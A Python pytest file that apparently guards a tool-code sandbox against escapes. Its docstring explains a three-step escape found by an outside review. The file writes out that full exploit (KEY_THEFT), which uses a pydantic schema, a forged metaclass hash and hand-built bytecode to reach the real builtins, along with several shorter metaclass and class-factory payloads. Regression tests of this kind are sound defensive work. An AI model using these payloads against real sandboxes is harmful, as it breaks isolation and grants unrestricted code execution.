"""No metaclass, no class factory, no code object in tool code.

An outside review reached the worker's real builtins in three steps: the real ``type`` came out of
a pydantic core schema (``TypeAdapter(typing.Type).core_schema["schema"]["cls"]``); with it, a
metaclass whose ``__hash__``/``__eq__`` made a tool class collide with the keys of
``copy._deepcopy_dispatch`` handed over ``types.CodeType``; and ``CodeType(...)`` built bytecode
reading ``json.dumps.__globals__``. A metaclass also came from a class statement whose base
is ``type[int]`` or ``typing.Type`` (their ``__mro_entries__`` give the real ``type``), and a class
with any namespace from calling ``type[int]`` itself. Each step is closed on its own.
"""

from __future__ import annotations

import pytest

from attacks import attack, run_tool
from sandbox.common.errors import PolicyViolation

KEY_THEFT = """
import copy
import typing
from pydantic import TypeAdapter

STATE = {"h": 0, "found": []}

def tool():
    real_type = TypeAdapter(typing.Type).core_schema["schema"]["cls"]
    def meta_hash(cls):
        return STATE["h"]
    def meta_eq(cls, other):
        STATE["found"].append(other)
        return False
    Meta = real_type("Meta", (real_type,), {"__hash__": meta_hash, "__eq__": meta_eq})
    thing = Meta("Probe", (), {})()
    base, mask = id(int), (1 << 64) - 1
    for offset in range(-80000, 80000, 16):
        p = (base + offset) & mask
        h = ((p >> 4) | (p << 60)) & mask
        STATE["h"] = h - (1 << 64) if h >= 1 << 63 else h
        try:
            copy.deepcopy(thing)
        except Exception:
            pass
    code_type = [t for t in STATE["found"] if getattr(t, "__name__", "") == "code"][0]
    code = code_type(1, 0, 0, 1, 2, 3, bytes([151, 0, 124, 0, 106, 0, 0, 0, 0, 0, 0, 0, 0, 0, 83, 0]),
                     (None,), ("__globals__",), ("f",), "x", "x", "x", 1, b"", b"")
    return type(tool)(code, {})(copy.deepcopy)["__builtins__"]
"""

ATTACKS: dict[str, str] = {
    "type-alias-call": "def tool():\n    return type[int]('X', (), {'__match_args__': ('gi_frame',)})\n",
    "type-alias-base": "def tool():\n    class M(type[int]):\n        pass\n    return M('X', (), {})\n",
    "typing-type-base": "import typing\ndef tool():\n    class M(typing.Type):\n        pass\n    return M\n",
    "typing-type-alias-base": (
        "import typing\ndef tool():\n    class M(typing.Type[int]):\n        pass\n    return M\n"
    ),
    "schema-type-three-arguments": (
        "import typing\nfrom pydantic import TypeAdapter\ndef tool():\n"
        "    t = TypeAdapter(typing.Type).core_schema['schema']['cls']\n    return t('X', (), {'__del__': tool})\n"
    ),
    "schema-type-any-metaclass": (
        "import typing\nfrom pydantic import TypeAdapter\ndef tool():\n"
        "    t = TypeAdapter(type[typing.Any]).core_schema['schema']['cls']\n"
        "    class M(t):\n        pass\n    return M('X', (), {})\n"
    ),
}


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_metaclass_and_no_class_factory(source: str) -> None:
    with pytest.raises(PolicyViolation):
        run_tool(source)


def test_the_key_theft_exploit_ends_in_a_refusal(rt) -> None:
    result = attack(rt, KEY_THEFT)
    assert not result.success
    assert result.error.kind == "policy", result.error
    assert attack(rt, "def tool() -> int:\n    return 1\n").output == 1


def _template() -> None:
    pass


def test_tool_code_cannot_build_code_objects_even_holding_the_code_class() -> None:
    from types import CodeType

    source = "def tool(template):\n    return template.replace(co_name='x')\n"
    with pytest.raises(PolicyViolation, match="code objects"):
        run_tool(source, args={"template": _template.__code__})
    source = "def tool(code_class):\n    return code_class(0, 0, 0, 0, 0, 0, b'', (), (), (), 'x', 'x', 'x', 1, b'', b'')\n"
    with pytest.raises(PolicyViolation, match="code objects"):
        run_tool(source, args={"code_class": CodeType})


def test_type_fields_and_type_aliases_still_work() -> None:
    source = """
import typing
from pydantic import BaseModel, TypeAdapter

class M(BaseModel):
    kind: typing.Type
    sub: type[int]

class Plain(object):
    pass

def tool():
    refused = []
    for bad in (3, "x"):
        try:
            M(kind=bad, sub=bool)
        except Exception as error:
            refused.append(type(error).__name__)
    return (M(kind=str, sub=bool).kind is str, TypeAdapter(type[typing.Any]).validate_python(int) is int,
            isinstance(int, type), repr(type[int]), type(Plain()) is Plain, refused)
"""
    assert run_tool(source)[0] == (
        True,
        True,
        True,
        "type[int]",
        True,
        ["ValidationError", "ValidationError"],
    )
